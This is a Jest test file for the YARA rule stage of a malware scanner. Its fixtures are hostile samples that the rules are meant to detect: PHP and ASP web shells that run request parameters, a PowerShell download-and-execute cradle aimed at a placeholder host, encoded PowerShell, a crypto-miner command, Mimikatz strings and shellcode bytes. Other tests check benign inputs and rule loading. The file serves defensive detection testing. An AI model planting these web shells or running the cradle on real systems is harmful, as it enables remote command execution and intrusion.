import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, test } from '@jest/globals';
import { toFinding } from '../../../../../src/kinds/scan/analysis/findings.ts';
import { yaraFindings } from '../../../../../src/kinds/scan/stages/yara/findings.ts';
import { ourRules, readRules } from '../../../../../src/kinds/scan/stages/yara/rule-sources.ts';
import { createYaraStage, type YaraStage } from '../../../../../src/kinds/scan/stages/yara/stage.ts';
import { fileOf } from '../file-of.ts';

const ours = createYaraStage();
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC', 'AR-STANDARD-ANTIVIRUS-TEST', '-FILE!$H+H*'].join('');
const stub = ['This program cannot ', 'be run in DOS mode'].join('');
const program = Buffer.alloc(600, 1);
program.write('MZ');
program.write(stub, 78);
const encoded = Buffer.from('Write-Output doubletake; Start-Sleep 1', 'utf16le').toString('base64');

async function findingsOf(content: string | Uint8Array, stage: YaraStage = ours, name = 'a') {
  const file = await fileOf(name, content);
  const { findings } = await stage.look(file);
  return findings.map((finding) => toFinding(finding, name, yaraFindings));
}

test.each<[id: string, content: string | Uint8Array]>([
  ['eicar-test-file', eicar],
  ['eicar-test-file', `${eicar}\r\n \t\x1a`],
  ['php-runs-request', "<?php @system($_GET['c']); ?>"],
  [
    'php-runs-request',
    Buffer.concat([
      Buffer.from('ffd8fffe0040', 'hex'),
      Buffer.from('<?= eval(base64_decode($_POST["a"])) ?>'),
    ]),
  ],
  ['php-runs-request', "<?php $_GET['f']($_POST['a']);"],
  ['php-runs-decoded', "<?php eval(gzinflate(base64_decode('AAAA')));"],
  ['asp-runs-request', '<%eval request("cmd")%>'],
  ['asp-runs-request', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'],
  ['program-in-picture', Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), program])],
  ['program-in-base64', `var p = "${program.toString('base64')}";`],
  ['program-in-base64', `{\\rtf1{\\objdata ${program.toString('hex')}}}`],
  ['program-xored', program.map((byte) => byte ^ 0x5a)],
  [
    'shellcode-block-api',
    Buffer.concat([Buffer.alloc(40, 0x90), Buffer.from('fce8820000006089e531c0648b5030', 'hex')]),
  ],
  [
    'credential-dumper',
    Buffer.concat([program, Buffer.from('sekurlsa::logonPasswords kuhl_m_sekurlsa_all')]),
  ],
  ['coin-miner', '#!/bin/sh\n./xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1\n'],
  ['encoded-powershell', `\0\0cmd /c powershell -nop -enc ${encoded}\0`],
  ['encoded-powershell', Buffer.from(`powershell.exe -w hidden -EncodedCommand ${encoded}`, 'utf16le')],
  [
    'powershell-cradle',
    'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://a.invalid/\')"',
  ],
])('yara.%s', async (id, content) => {
  const [found] = await findingsOf(content);
  expect(found).toMatchObject({ id: `yara.${id}`, score: yaraFindings[`yara.${id}`]?.score });
});

test.each<[what: string, content: string | Uint8Array]>([
  ['a text about EICAR', `The test file is ${eicar}, which every scanner knows.`],
  ['EICAR with words behind it', `${eicar} and more`],
  ['EICAR with more than 128 bytes', `${eicar}${' '.repeat(61)}`],
  ['ordinary PHP', "<?php $name = htmlspecialchars($_GET['name']); echo base64_decode($row['a']); ?>"],
  ['a page about PHP functions', 'Never pass $_GET to eval() or system().'],
  ['a program', program],
  [
    'a mail with a program',
    `MIME-Version: 1.0\nContent-Transfer-Encoding: base64\n\n${program.toString('base64')}`,
  ],
  [
    'an ordinary call of PowerShell',
    'powershell -ExecutionPolicy Bypass -File build.ps1 -Environment production',
  ],
  ['a picture', Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.alloc(4000, 0x33)])],
])('nothing: %s', async (_, content) => {
  expect(await findingsOf(content)).toEqual([]);
});

test('the texts of the rules fit none of them', async () => {
  for (const { text, name } of readRules(ourRules))
    expect([name, await findingsOf(text)]).toEqual([name, []]);
});

test('the catalogue says what the metadata of the rules says', () => {
  const blocks = readRules(ourRules).flatMap(({ text }) => text.match(/^rule [\s\S]*?^}/gm) ?? []);
  const value = (block: string, name: string) =>
    new RegExp(`^\\s+${name} = "?([^"\\n]*)"?$`, 'm').exec(block)?.[1];
  const told = blocks.map((block) => [
    `yara.${value(block, 'id')}`,
    {
      title: value(block, 'title'),
      score: Number(value(block, 'score')),
      attack: value(block, 'attack') || undefined,
    },
  ]);
  const known = Object.entries(yaraFindings).map(([id, { title, score, attack }]) => [
    id,
    { title, score, attack },
  ]);
  expect(Object.fromEntries(told)).toEqual(Object.fromEntries(known));
  expect(ours.leftOut()).toEqual([]);
});

const folder = mkdtempSync(join(tmpdir(), 'doubletake-rules-'));
afterAll(() => rmSync(folder, { recursive: true }));

test('rules of an operator count; what does not compile is named and left out', async () => {
  mkdirSync(join(folder, 'more'));
  writeFileSync(join(folder, 'a.yar'), 'rule found { strings: $a = "needle" condition: $a }');
  writeFileSync(join(folder, 'bad.yar'), 'rule broken { condition: nothing_such }');
  writeFileSync(
    join(folder, 'more', 'c.yara'),
    'rule found { meta: title = "Hay" score = 50 attack = "T1000" strings: $a = "hay" condition: $a }',
  );
  writeFileSync(join(folder, 'notes.txt'), 'no rules');
  const stage = createYaraStage(folder);
  expect(stage.leftOut()).toEqual([{ name: 'bad.yar', reason: expect.stringContaining('nothing_such') }]);
  expect(await findingsOf('a needle in the hay', stage)).toEqual([
    {
      id: 'yara.found',
      title: 'The rule found fits: a.yar',
      score: 300,
      where: { path: 'a', offset: 2 },
      evidence: 'needle',
    },
    {
      id: 'yara.found',
      title: 'The rule found fits: Hay',
      score: 50,
      where: { path: 'a', offset: 16 },
      evidence: 'hay',
      attack: 'T1000',
    },
  ]);
  expect((await findingsOf(eicar, stage))[0]?.score).toBe(1000);

  const { rulesVersion, version } = stage;
  expect(createYaraStage(folder)).toMatchObject({ rulesVersion, version });
  writeFileSync(join(folder, 'a.yar'), 'rule found { strings: $a = "thread" condition: $a }');
  expect(createYaraStage(folder).version).not.toBe(version);
});

test('a pattern that matches everywhere is reported once', async () => {
  writeFileSync(join(folder, 'a.yar'), 'rule found { strings: $a = "a" condition: $a }');
  const found = await findingsOf('a'.repeat(100_000), createYaraStage(folder));
  expect(found.map(({ where }) => where.offset)).toEqual([0]);
});

test('a file larger than a window is scanned by windows, and its rules see the file', async () => {
  const MiB = 1024 ** 2;
  writeFileSync(
    join(folder, 'a.yar'),
    `rule begins { strings: $a = "START" condition: $a at 0 }
    rule small { strings: $a = "needle" condition: $a and filesize < 50MB }
    rule large { strings: $a = "needle" /* a filesize in words */ condition: $a and filesize > 70MB and filesize < 80MB }
    rule whole { strings: $a = "straddle" condition: all of them }
    rule at_end { strings: $a = "needle" condition: $a at filesize - 6 }`,
  );
  const stage = createYaraStage(folder);
  const of = async (size: number, parts: Readonly<Record<number, string | Uint8Array>>) => {
    const bytes = Buffer.alloc(size, 1);
    for (const [at, part] of Object.entries(parts)) Buffer.from(part as string).copy(bytes, Number(at));
    const file = { ...(await fileOf('a', bytes)), bytes: () => Buffer.from('all bytes at once') };
    const { findings, facts, incomplete } = await stage.look(file);
    return { found: findings.map(({ id, offset, evidence }) => [id, offset, evidence]), facts, incomplete };
  };
  const size = 75 * MiB;
  const found = await of(size, {
    // The second window begins at 31 MiB, the third at 62.
    [31 * MiB]: 'START',
    [32 * MiB - 4]: 'straddle',
    [62 * MiB]: eicar,
    [74 * MiB]: 'needle',
  });
  expect(found).toEqual({
    found: [
      ['yara.whole', 32 * MiB - 4, 'straddle'],
      ['yara.large', 74 * MiB, 'needle'],
    ],
    facts: { windows: 3 },
    incomplete: undefined,
  });
  const picture = await of(40 * MiB, { 0: Buffer.from('ffd8ffe0', 'hex'), [39 * MiB]: program });
  expect(picture.found.map(([id, offset]) => [id, offset])).toEqual([
    ['yara.program-in-picture', 39 * MiB + 78],
  ]);
  const mail = await of(40 * MiB, { 0: 'MIME-Version: 1.0\n\n', [39 * MiB]: program.toString('base64') });
  expect(mail.found).toEqual([]);
});
